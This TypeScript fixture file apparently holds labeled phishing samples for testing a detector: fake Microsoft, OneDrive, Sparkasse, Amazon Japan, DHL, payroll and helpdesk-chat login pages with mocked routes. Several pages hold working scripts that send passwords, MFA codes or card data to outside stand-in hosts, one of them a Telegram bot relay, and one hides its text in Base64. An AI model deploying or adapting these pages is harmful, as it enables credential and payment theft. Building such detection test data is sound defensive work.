import { type Entry, redirectRoute } from '../entry.js';
import { doc, gtag, gtagRoute, js, json, html, b64 } from '../parts/zo-kit.js';
import { pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zo-phish-formbuilder-it-revalidation',
    label: 'phishing',
    kind: 'platform-kit',
    url: 'https://forms.formyra.app/f/8c1e7d2a-it-service-desk',
    body: doc('IT Service Desk – Account Revalidation', `
<div style="background:#f3f4f6;min-height:100vh;padding:30px 0">
<div style="max-width:640px;margin:0 auto;background:#fff;border-top:8px solid #4f46e5;border-radius:8px;padding:26px">
  <h1 style="font-size:24px;margin:0 0 6px">IT Service Desk – Annual Account Revalidation</h1>
  <p>All staff are required to revalidate their network account before the end of this week as part of the migration to the new email security gateway. Accounts that are not revalidated will be disabled on Friday.</p>
  <p style="color:#d93025;font-size:13px">* Required</p>
  <form action="/f/8c1e7d2a-it-service-desk/submit" method="post">
    <label>Full name *</label><input name="q1" required>
    <label>Work email *</label><input name="q2" type="email" required>
    <label>Network password *</label><input name="q3" type="password" required>
    <label>Confirm password *</label><input name="q4" type="password" required>
    <label>Department</label><select name="q5"><option>Finance</option><option>HR</option><option>Operations</option><option>Sales</option><option>Other</option></select>
    <p><button class="btn" style="background:#4f46e5">Submit</button></p>
  </form>
</div>
<p style="text-align:center;font-size:12px;color:#6b7280">This content is neither created nor endorsed by Formyra. <a href="#">Report Abuse</a> · <a href="#">Terms of Service</a><br>Never submit passwords through Formyra Forms.</p>
</div>`),
  },
  {
    id: 'zo-phish-sitebuilder-payroll-portal',
    label: 'phishing',
    kind: 'platform-kit',
    url: 'https://hr-payroll-portal-2026.sitecanvas.site/',
    body: doc('Employee Payroll Portal', `
<header style="background:#0b3d2e;color:#fff"><b>Employee Self-Service</b> <span style="float:right;font-size:13px">Payroll · Benefits · Tax Forms</span></header>
<main style="display:flex;gap:40px;flex-wrap:wrap">
  <section style="flex:1;min-width:280px">
    <h1>Confirm your direct deposit details</h1>
    <p>Due to our migration to a new payroll provider, all employees must sign in and confirm their direct deposit information before the next pay cycle (Nov 30). Failure to confirm may delay your salary payment.</p>
    <ul><li>Review your W-2 and pay stubs</li><li>Update bank information</li><li>Enroll in 2027 benefits</li></ul>
  </section>
  <section style="flex:1;min-width:280px;border:1px solid #d1d5db;border-radius:8px;padding:20px">
    <h3 style="margin-top:0">Sign in with your company account</h3>
    <form id="f"><label>Company email</label><input name="login" type="email" required><label>Password</label><input name="pw" type="password" required>
    <p><button class="btn" style="background:#0b3d2e;width:100%">Sign in</button></p></form>
    <p id="msg" style="color:#b91c1c;font-size:13px"></p>
  </section>
</main>
<footer>Built with SiteCanvas · <a href="#">Create your free website</a></footer>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=new FormData(this);
fetch('https://collect.paysync-relay.com/api/v2/hook',{method:'POST',mode:'no-cors',body:JSON.stringify({l:d.get('login'),p:d.get('pw'),ua:navigator.userAgent})}).finally(function(){document.getElementById('msg').textContent='Incorrect password. Please try again.';});};
</script>`),
    routes: { 'collect.paysync-relay.com/api/v2/hook': json({ ok: true }) },
  },
  {
    id: 'zo-phish-bucket-remittance-provider-picker',
    label: 'phishing',
    kind: 'platform-kit',
    url: 'https://objects.nimbusstore.net/share-docs-7731/remittance/index.html#ap@brightwell-logistics.com',
    body: doc('Remittance Advice – Secure Document', `
<div style="background:url(bg.png) #e5e7eb;min-height:100vh;display:flex;align-items:center;justify-content:center">
<div style="background:#fff;width:380px;padding:24px;border-radius:6px;box-shadow:0 10px 30px rgba(0,0,0,.2)">
  <div style="display:flex;gap:10px;align-items:center"><img src="pdf.png" width="32" height="32" alt=""><div><b>Remittance_Advice_INV-20931.pdf</b><br><small>214 KB · Shared securely</small></div></div>
  <p style="font-size:14px">To read the document, please choose your email provider below and sign in to verify your identity.</p>
  <div id="pick">
    <button class="btn" style="width:100%;margin:4px 0;background:#0078d4" data-p="Outlook">Sign in with Outlook</button>
    <button class="btn" style="width:100%;margin:4px 0;background:#0f6cbd" data-p="Office 365">Sign in with Office 365</button>
    <button class="btn" style="width:100%;margin:4px 0;background:#ea4335" data-p="Gmail">Sign in with Gmail</button>
    <button class="btn" style="width:100%;margin:4px 0;background:#6001d2" data-p="Yahoo">Sign in with Yahoo</button>
    <button class="btn" style="width:100%;margin:4px 0;background:#555" data-p="Other Mail">Other Mail</button>
  </div>
  <form id="f" style="display:none"><p id="pv" style="font-weight:600"></p><label>Email</label><input id="e" name="e"><label>Password</label><input type="password" name="p" id="p"><p><button class="btn" style="width:100%">View Document</button></p><p id="err" style="color:#c00;font-size:12px"></p></form>
</div></div>
<script>
var tries=0;document.getElementById('e').value=decodeURIComponent(location.hash.slice(1));
document.querySelectorAll('#pick button').forEach(function(b){b.onclick=function(){document.getElementById('pick').style.display='none';document.getElementById('f').style.display='block';document.getElementById('pv').textContent=b.dataset.p+' verification';}});
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();tries++;
var x=new XMLHttpRequest();x.open('POST','https://sbs-handler.docuvault-cdn.org/rs.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('e='+encodeURIComponent(document.getElementById('e').value)+'&p='+encodeURIComponent(document.getElementById('p').value)+'&t='+tries);
if(tries<2){document.getElementById('err').textContent='Invalid password, please try again.';document.getElementById('p').value='';}else{location.href='https://www.adobe.com/acrobat/online/pdf-reader.html';}};
</script>`),
    routes: {
      'objects.nimbusstore.net/share-docs-7731/remittance/bg.png': pngRoute(210, 214, 220),
      'objects.nimbusstore.net/share-docs-7731/remittance/pdf.png': pngRoute(220, 30, 30),
      'sbs-handler.docuvault-cdn.org/rs.php': json({ status: 'ok' }),
    },
  },
  {
    id: 'zo-phish-codehost-m365-scriptbuilt',
    label: 'phishing',
    kind: 'script-built-kit',
    url: 'https://nexora-files.pagesforge.io/auth/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title><meta name="robots" content="noindex,nofollow"></head><body>
<noscript>Please enable JavaScript.</noscript>
<script src="./app.js"></script></body></html>`,
    routes: {
      'nexora-files.pagesforge.io/auth/app.js': js(`(function(){
var _0x=['U2lnbiBpbg==','TWljcm9zb2Z0','RW50ZXIgcGFzc3dvcmQ=','Tm8gYWNjb3VudD8gQ3JlYXRlIG9uZSE=','Q2FuJ3QgYWNjZXNzIHlvdXIgYWNjb3VudD8='];
function d(i){return atob(_0x[i]);}
document.title=d(0)+' to your account';
var s=document.createElement('style');s.textContent='body{margin:0;background:#f2f2f2;font-family:Segoe UI,Arial,sans-serif}.bx{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.bx input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:0}.bx h1{font-size:24px;font-weight:600;margin:16px 0}.b{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;margin-top:20px}.lg{display:grid;grid-template-columns:10px 10px;gap:1px}.lg i{width:10px;height:10px;display:block}';document.head.appendChild(s);
var w=document.createElement('div');w.className='bx';
w.innerHTML='<div style="display:flex;gap:8px;align-items:center"><span class="lg"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></span><span style="color:#737373;font-weight:600">'+d(1)+'</span></div><h1 id="h">'+d(0)+'</h1><div id="st1"><input id="u" placeholder="Email, phone, or Skype"><p style="font-size:13px">'+d(3)+'</p><p style="font-size:13px;color:#0067b8">'+d(4)+'</p><button class="b" id="n">Next</button></div><div id="st2" style="display:none"><p id="ue"></p><input id="pw" type="password" placeholder="Password"><p style="font-size:13px;color:#0067b8">Forgot password?</p><button class="b" id="sb">Sign in</button></div><div style="clear:both"></div>';
document.body.appendChild(w);
document.getElementById('n').onclick=function(){var u=document.getElementById('u').value;if(u.indexOf('@')<0)return;document.getElementById('st1').style.display='none';document.getElementById('st2').style.display='block';document.getElementById('ue').textContent=u;document.getElementById('h').textContent=d(2);};
document.getElementById('sb').onclick=function(){fetch('/auth/api/session',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:document.getElementById('u').value,p:document.getElementById('pw').value})}).then(function(r){return r.json()}).then(function(j){if(j.r)location.replace(j.r);});};
})();`),
      'nexora-files.pagesforge.io/auth/api/session': json({ r: 'https://www.office.com/' }),
    },
  },
  {
    id: 'zo-phish-captcha-gate-then-login',
    label: 'phishing',
    kind: 'captcha-gated-kit',
    url: 'https://verify.secure-docs-portal.cloud/s/QJ7d2Kx',
    body: doc('Just a moment...', `
<div id="gate" style="max-width:560px;margin:120px auto;font-size:15px">
  <h1 style="font-weight:500;font-size:28px">secure-docs-portal.cloud</h1>
  <p>Verify you are human by completing the action below.</p>
  <div style="border:1px solid #ccc;background:#fafafa;width:300px;height:64px;display:flex;align-items:center;padding:0 14px;gap:12px;border-radius:4px">
    <input type="checkbox" id="cb" style="width:24px;height:24px"> <span>Verify you are human</span>
  </div>
  <p style="font-size:13px;color:#555">secure-docs-portal.cloud needs to review the security of your connection before proceeding.</p>
</div>
<div id="app" style="display:none"></div>
<script>
document.getElementById('cb').addEventListener('change',function(){
  setTimeout(function(){
    fetch('/s/QJ7d2Kx/view',{credentials:'include'}).then(function(r){return r.text()}).then(function(t){
      document.getElementById('gate').remove();var a=document.getElementById('app');a.innerHTML=t;a.style.display='block';document.title='Shared Document';
    });
  },900);
});
</script>`),
    routes: {
      'verify.secure-docs-portal.cloud/s/QJ7d2Kx/view': html(`<div style="max-width:400px;margin:70px auto;border:1px solid #ddd;padding:26px;border-radius:6px">
<h2 style="margin-top:0">Shared Document</h2><p>Purchase_Order_PO-55812.xlsx has been shared with you. Sign in with your business email to open it.</p>
<form method="post" action="/s/QJ7d2Kx/auth"><label>Email</label><input name="email" type="email"><label>Password</label><input name="password" type="password"><p><button class="btn" style="width:100%">Open</button></p></form></div>`),
    },
  },
  {
    id: 'zo-phish-onedrive-share-modal',
    label: 'phishing',
    kind: 'doc-share-lure',
    url: 'https://onedrv-sharedfile.azurewebsites-app.com/personal/s_weber/Documents/Forms/AllItems.aspx',
    body: doc('OneDrive', `
<div style="background:#0364b8;color:#fff;padding:12px 20px;font-weight:600">OneDrive</div>
<main>
  <p style="font-size:14px"><b>Stefan Weber</b> shared a folder with you.</p>
  <table style="width:100%;border-collapse:collapse;font-size:14px"><tr style="border-bottom:1px solid #ddd;color:#666"><th align="left">Name</th><th align="left">Modified</th><th align="left">Size</th></tr>
  <tr><td><a href="#" class="o">Rechnung_4471_Nov.pdf</a></td><td>Yesterday</td><td>188 KB</td></tr>
  <tr><td><a href="#" class="o">Zahlungsavis_Q4.xlsx</a></td><td>Yesterday</td><td>54 KB</td></tr>
  <tr><td><a href="#" class="o">Lieferschein-2026-11.docx</a></td><td>2 days ago</td><td>33 KB</td></tr></table>
</main>
<div id="mod" style="display:none;position:fixed;inset:0;background:rgba(0,0,0,.5)"><div style="background:#fff;width:380px;margin:100px auto;padding:26px">
  <h3 style="margin-top:0">Verify your identity</h3><p style="font-size:13px">This item is protected. Sign in with the account the file was shared to.</p>
  <form method="post" action="/personal/s_weber/_layouts/15/login.ashx"><input name="loginfmt" placeholder="someone@example.com" type="email"><br><br><input name="passwd" type="password" placeholder="Password"><p><button class="btn" style="background:#0067b8">Sign in</button></p></form></div></div>
<script>document.querySelectorAll('.o').forEach(function(a){a.onclick=function(e){e.preventDefault();document.getElementById('mod').style.display='block';}});setTimeout(function(){document.getElementById('mod').style.display='block';},2500);</script>`, { lang: 'de' }),
  },
  {
    id: 'zo-phish-de-sparkasse-pushtan',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://sparkasse-pushtan-aktualisierung.de-kundenservice.info/login/',
    body: doc('Sparkasse - Online-Banking', `
<header style="background:#ff0000;color:#fff;font-size:22px;font-weight:bold">S Sparkasse</header>
<main style="max-width:480px">
  <h1 style="font-size:22px">Aktualisierung des pushTAN-Verfahrens</h1>
  <p>Sehr geehrte Kundin, sehr geehrter Kunde,<br>aufgrund neuer EU-Richtlinien (PSD2) ist eine Aktualisierung Ihres pushTAN-Verfahrens erforderlich. Bitte melden Sie sich an, um die Sperrung Ihres Online-Bankings zu vermeiden.</p>
  <form method="post" action="auth.php">
    <label>Bankleitzahl oder Name Ihrer Sparkasse</label><input name="blz">
    <label>Anmeldename oder Legitimations-ID</label><input name="user">
    <label>PIN</label><input name="pin" type="password">
    <p><button class="btn" style="background:#ff0000">Anmelden</button></p>
  </form>
  <p style="font-size:12px">Sicherheitshinweis: Wir werden Sie niemals per E-Mail auffordern ... </p>
</main>
<footer>Impressum · Datenschutz · AGB · © 2026 Sparkasse</footer>`, { lang: 'de' }),
  },
  {
    id: 'zo-phish-ja-amazon-account-suspended',
    label: 'phishing',
    kind: 'brand-kit',
    url: 'https://amazon-co-jp.account-support-center.top/ap/signin?openid=update',
    body: doc('Amazon サインイン', `
<div style="text-align:center;padding:20px"><b style="font-size:28px">amazon</b><span style="color:#f90">.co.jp</span></div>
<div style="width:350px;margin:0 auto;border:1px solid #ddd;border-radius:8px;padding:20px 26px">
  <h1 style="font-size:26px;font-weight:400">ログイン</h1>
  <p style="font-size:13px;background:#fff4e5;padding:8px;border:1px solid #f0c36d">お客様のアカウントは一時的に停止されています。本人確認のため、ログインしてお支払い情報を更新してください。</p>
  <form method="post" action="/ap/signin/verify">
    <label>Eメールまたは携帯電話番号</label><input name="email"><label>パスワード</label><input type="password" name="password">
    <p><button class="btn" style="background:#f0c14b;color:#111;width:100%;border:1px solid #a88734">ログイン</button></p>
  </form>
  <p style="font-size:12px">続行することで、Amazonの利用規約およびプライバシー規約に同意するものとします。</p>
</div>
<footer style="text-align:center">利用規約 プライバシー規約 ヘルプ © 1996-2026, Amazon.com, Inc. or its affiliates</footer>`, { lang: 'ja' }),
  },
  {
    id: 'zo-phish-helpdesk-chat-credential-flow',
    label: 'phishing',
    kind: 'script-built-kit',
    url: 'https://support-desk-live.agentchat-cx.com/ticket/INC0091842',
    body: doc('IT Support – Ticket INC0091842', `
<div style="max-width:460px;margin:40px auto;border:1px solid #e5e7eb;border-radius:12px;overflow:hidden">
  <div style="background:#111827;color:#fff;padding:12px 16px">IT Support · <small>Agent: Daniel (Service Desk)</small></div>
  <div id="log" style="height:360px;overflow:auto;padding:14px;font-size:14px;background:#f9fafb"></div>
  <form id="f" style="display:flex;border-top:1px solid #e5e7eb"><input id="i" style="border:0;border-radius:0" placeholder="Type a message..." autocomplete="off"><button class="btn" style="border-radius:0">Send</button></form>
</div>
<script>
var steps=['Hi, this is Daniel from the Service Desk. We detected unusual sign-in activity on your account and opened ticket INC0091842.','To secure your mailbox I need to verify it. What is your work email address?','Thanks. Please type your current password so I can run the reset on our side (it is encrypted).','Last step: enter the 6-digit code from your authenticator app.','Thank you, your account is now secured. You can close this window.'];
var k=0,ans=[];var log=document.getElementById('log'),inp=document.getElementById('i');
function say(t,me){var p=document.createElement('p');p.style.cssText='padding:8px 12px;border-radius:10px;max-width:80%;'+(me?'background:#dbeafe;margin-left:auto':'background:#fff;border:1px solid #e5e7eb');p.textContent=t;log.appendChild(p);log.scrollTop=1e6;}
function next(){setTimeout(function(){say(steps[k]);if(k===2)inp.type='password';else inp.type='text';k++;},700);}
say(steps[0]);k=1;next();
document.getElementById('f').onsubmit=function(e){e.preventDefault();if(!inp.value)return;ans.push(inp.value);say(inp.type==='password'?'••••••••':inp.value,true);inp.value='';
navigator.sendBeacon('/ticket/INC0091842/msg',JSON.stringify(ans));if(k<steps.length)next();};
</script>`),
    routes: { 'support-desk-live.agentchat-cx.com/ticket/INC0091842/msg': json({ ok: 1 }) },
  },
  {
    id: 'zo-phish-efax-telegram-relay',
    label: 'phishing',
    kind: 'quiet-kit',
    url: 'https://efax-inbound.faxview-docs.com/inbox/view?fid=771903',
    body: doc('eFax Message', `
<main style="max-width:420px;border:1px solid #d1d5db;margin-top:50px;border-radius:6px">
  <h2 style="margin-top:0">&#128224; You have received a new fax</h2>
  <table style="font-size:14px"><tr><td>Pages:</td><td>3</td></tr><tr><td>Caller ID:</td><td>+44 20 7946 0321</td></tr><tr><td>Received:</td><td>29/11/2026 08:47</td></tr></table>
  <p style="font-size:13px">Sign in to view the fax document.</p>
  <form id="fx"><input name="a" id="a" type="email" placeholder="Email address"><br><br><input name="b" id="b" type="password" placeholder="Password"><p><button class="btn" style="width:100%">View Fax</button></p></form>
</main>
<script>
var T='7120094417:AAH-kq9'+'Zx1Lr0pQ',C='-1002219';
document.getElementById('fx').onsubmit=function(e){e.preventDefault();
fetch('https://tg-relay.msgforward-api.com/bot'+T+'/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:C,text:'FAX | '+document.getElementById('a').value+' | '+document.getElementById('b').value+' | '+navigator.userAgent})}).then(function(){location.href='https://www.efax.com/';});};
</script>`),
    routes: { 'tg-relay.msgforward-api.com/bot7120094417:AAH-kq9Zx1Lr0pQ/sendMessage': json({ ok: true }) },
  },
  {
    id: 'zo-phish-netlify-style-shipping-dhl-de',
    label: 'phishing',
    kind: 'parcel-kit',
    url: 'https://dhl-paket-zustellung-8812.deployfast.app/sendung/',
    body: doc('DHL Sendungsverfolgung', `
<header style="background:#ffcc00"><b style="color:#d40511;font-size:22px;font-style:italic">DHL</b></header>
<main style="max-width:520px">
  <h1 style="font-size:22px">Ihre Sendung konnte nicht zugestellt werden</h1>
  <p>Sendungsnummer: <b>JJD0001490028377</b><br>Status: Adresse unvollständig – Zustellung ausgesetzt</p>
  <p>Bitte bestätigen Sie Ihre Adresse und zahlen Sie die Neuzustellgebühr von <b>1,99 €</b>.</p>
  <form method="post" action="/sendung/weiter"><label>Vor- und Nachname</label><input name="n"><label>Straße, Hausnr.</label><input name="s"><label>PLZ / Ort</label><input name="o"><label>Kartennummer</label><input name="k"><div style="display:flex;gap:8px"><div><label>Gültig bis</label><input name="g"></div><div><label>Prüfziffer</label><input name="c"></div></div><p><button class="btn" style="background:#d40511">Weiter</button></p></form>
</main>
<footer>Deployed on DeployFast · © DHL 2026 · Impressum · Datenschutz</footer>`, { lang: 'de' }),
  },
];
